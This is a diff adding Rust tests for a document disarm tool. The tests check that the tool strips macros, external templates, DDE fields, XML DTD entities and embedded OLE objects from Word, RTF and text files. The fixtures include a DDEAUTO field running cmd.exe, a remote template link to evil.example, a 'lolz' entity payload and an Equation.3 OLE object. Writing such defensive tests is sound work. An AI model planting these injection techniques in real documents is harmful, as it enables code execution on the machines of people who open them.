@@ -1,0 +1,173 @@
+use super::zip_write::{self, NewEntry};
+use super::*;
+use crate::context::ScanContext;
+use crate::report::scan_bytes;
+use haetae_core::Verdict;
+
+fn package(parts: &[(&str, &str)]) -> Vec<u8> {
+    let entries: Vec<NewEntry<'_>> = parts
+        .iter()
+        .map(|(name, text)| NewEntry {
+            name,
+            data: text.as_bytes(),
+            stored: false,
+        })
+        .collect();
+    zip_write::write(&entries).unwrap()
+}
+
+const CONTENT_TYPES_DOCM: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>"#;
+const ROOT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
+const DOC_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>"#;
+const DOCUMENT: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>송금 확인서</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;
+const STYLES: &str = r#"<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>"#;
+
+fn docm() -> Vec<u8> {
+    package(&[
+        ("[Content_Types].xml", CONTENT_TYPES_DOCM),
+        ("_rels/.rels", ROOT_RELS),
+        ("word/document.xml", DOCUMENT),
+        ("word/_rels/document.xml.rels", DOC_RELS),
+        ("word/styles.xml", STYLES),
+        ("word/vbaProject.bin", "\u{d0}\u{cf} not really a CFB"),
+        ("word/_rels/vbaProject.bin.rels", ROOT_RELS),
+        ("word/vbaData.xml", "<wne:vbaSuppData/>"),
+    ])
+}
+
+#[test]
+fn a_docm_loses_its_macros_external_template_and_dde_and_keeps_its_text() {
+    let limits = Limits::default();
+    let original = scan_bytes(&docm(), Some("transfer.docm"), &limits);
+    assert_ne!(original.verdict, Verdict::Clean, "{:?}", original.findings);
+
+    let d = disarm(&docm(), original.detected_type, &limits).unwrap();
+    let whats: Vec<&str> = d.removed.iter().map(|r| r.what.as_str()).collect();
+    for expected in [
+        "macro project",
+        "external relationship",
+        "relationship to active content",
+        "macro-enabled content type",
+        "DDE field",
+    ] {
+        assert!(whats.contains(&expected), "{expected} not in {whats:?}");
+    }
+
+    let mut ctx = ScanContext::new(&limits, d.bytes.len());
+    let rebuilt = zip::parse(&d.bytes, &mut ctx).unwrap();
+    let names: Vec<&str> = rebuilt.entries.iter().map(|e| e.name.as_str()).collect();
+    assert_eq!(
+        names,
+        [
+            "[Content_Types].xml",
+            "_rels/.rels",
+            "word/document.xml",
+            "word/_rels/document.xml.rels",
+            "word/styles.xml"
+        ]
+    );
+    let read = |name: &str| {
+        let mut ctx = ScanContext::new(&limits, d.bytes.len());
+        let e = rebuilt.entry(name).unwrap();
+        String::from_utf8(zip::read(&d.bytes, e, &mut ctx).unwrap().into_owned()).unwrap()
+    };
+    let rels = read("word/_rels/document.xml.rels");
+    assert!(
+        !rels.contains("External") && !rels.contains("vbaProject"),
+        "{rels}"
+    );
+    assert!(
+        rels.contains("styles.xml"),
+        "the styles relationship stays: {rels}"
+    );
+    let types = read("[Content_Types].xml");
+    assert!(
+        !types.contains("macroEnabled")
+            && !types.contains("vbaProject")
+            && !types.contains("vbaData")
+    );
+    let doc = read("word/document.xml");
+    assert!(
+        doc.contains("송금 확인서") && !doc.contains("DDEAUTO"),
+        "{doc}"
+    );
+
+    // The copy is a clean, well-formed package to the inspector.
+    let again = scan_bytes(&d.bytes, Some("transfer.docx"), &limits);
+    assert_eq!(again.verdict, Verdict::Clean, "{:?}", again.findings);
+}
+
+#[test]
+fn a_part_with_a_dtd_fails_the_rebuild_with_its_place() {
+    let bomb = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><w:document xmlns:w="x">&lol;</w:document>"#;
+    let data = package(&[
+        ("[Content_Types].xml", CONTENT_TYPES_DOCM),
+        ("_rels/.rels", ROOT_RELS),
+        ("word/document.xml", bomb),
+    ]);
+    match disarm(&data, FileType::Docx, &Limits::default()) {
+        Err(ConvertError::Failed(f)) => {
+            assert_eq!(f[0].code, "CONVERT-XML-DTD");
+            assert_eq!(f[0].location, "word/document.xml");
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn an_rtf_loses_its_objects_and_keeps_its_text() {
+    // An OLE 1.0 object of class Equation.3 (MS-OLEDS 2.2.4), as hex.
+    let mut ole = Vec::new();
+    ole.extend_from_slice(&0x0501u32.to_le_bytes());
+    ole.extend_from_slice(&2u32.to_le_bytes());
+    ole.extend_from_slice(&11u32.to_le_bytes());
+    ole.extend_from_slice(b"Equation.3\0");
+    ole.extend_from_slice(&[0; 8]);
+    ole.extend_from_slice(&3u32.to_le_bytes());
+    ole.extend_from_slice(b"abc");
+    let hex: String = ole.iter().map(|b| format!("{b:02x}")).collect();
+    let rtf = format!(
+        "{{\\rtf1\\ansi{{\\fonttbl{{\\f0 Batang;}}}}\\f0 Hello \\{{world\\}}{{\\object\\objemb{{\\*\\objclass Equation.3}}{{\\*\\objdata {hex}}}}}{{\\*\\objdata 01050000}}\\par Bye}}"
+    );
+    let rtf = rtf.as_bytes();
+    let limits = Limits::default();
+    let before = scan_bytes(rtf, Some("letter.rtf"), &limits);
+    assert_ne!(before.verdict, Verdict::Clean, "{:?}", before.findings);
+    let d = disarm(rtf, FileType::Rtf, &limits).unwrap();
+    let text = String::from_utf8(d.bytes.clone()).unwrap();
+    assert_eq!(
+        text,
+        r"{\rtf1\ansi{\fonttbl{\f0 Batang;}}\f0 Hello \{world\}\par Bye}"
+    );
+    assert_eq!(d.removed.len(), 2, "{:?}", d.removed);
+    let after = scan_bytes(&d.bytes, Some("letter.rtf"), &limits);
+    assert_eq!(after.verdict, Verdict::Clean, "{:?}", after.findings);
+    // An unbalanced document is a failure, not a guess.
+    assert!(matches!(
+        disarm(br"{\rtf1 {\object never closed", FileType::Rtf, &limits),
+        Err(ConvertError::Failed(_))
+    ));
+}
+
+#[test]
+fn text_is_normalised_to_utf8() {
+    let limits = Limits::default();
+    let utf16: Vec<u8> = [0xFF, 0xFE]
+        .into_iter()
+        .chain("계좌 123\0".encode_utf16().flat_map(u16::to_le_bytes))
+        .collect();
+    let d = disarm(&utf16, FileType::Text, &limits).unwrap();
+    assert_eq!(d.bytes, "계좌 123".as_bytes());
+    assert!(matches!(
+        disarm(b"\xb0\xe8\xc1\xc2", FileType::Text, &limits),
+        Err(ConvertError::Failed(f)) if f[0].code == "CONVERT-TEXT-ENCODING"
+    ));
+    assert_eq!(
+        disarm(b"\x89PNG", FileType::Png, &limits).unwrap_err(),
+        ConvertError::Unsupported(FileType::Png)
+    );
+}
